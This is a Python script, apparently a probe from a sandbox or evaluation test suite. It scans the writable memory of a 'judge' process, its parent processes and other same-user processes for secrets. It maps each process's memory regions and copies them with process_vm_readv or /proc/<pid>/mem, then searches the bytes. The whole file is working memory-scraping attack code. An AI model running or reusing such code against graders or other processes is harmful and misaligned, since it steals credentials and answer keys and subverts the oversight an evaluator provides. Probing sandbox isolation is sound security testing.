# ruff: noqa
"""Looks for secrets in the memory of the judge, of its parents and of others."""

import ctypes

import target
from tools import attempt, libc, others, parents, search

HONEST = {"kernels.pairwise": 20}
ADMITTED = {"none": "a plain process may look into the memory of its user's other processes"}


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def look(pid):
    try:
        with open(f"/proc/{pid}/maps") as maps:
            lines = maps.read().splitlines()
    except OSError:
        return
    for line in lines:
        ends, rights = line.split()[:2]
        start, end = (int(end, 16) for end in ends.split("-"))
        if rights.startswith("rw") and end - start < 8 << 20:
            room = ctypes.create_string_buffer(end - start)
            here, there = Vector(ctypes.addressof(room), end - start), Vector(start, end - start)
            if libc().process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
                search(room.raw)
                continue
            try:
                with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                    memory.seek(start)
                    search(memory.read(end - start))
            except OSError:
                continue


attempt()
for process in (target.BYSTANDER, *parents()[:2], *others()[:3]):
    look(process)
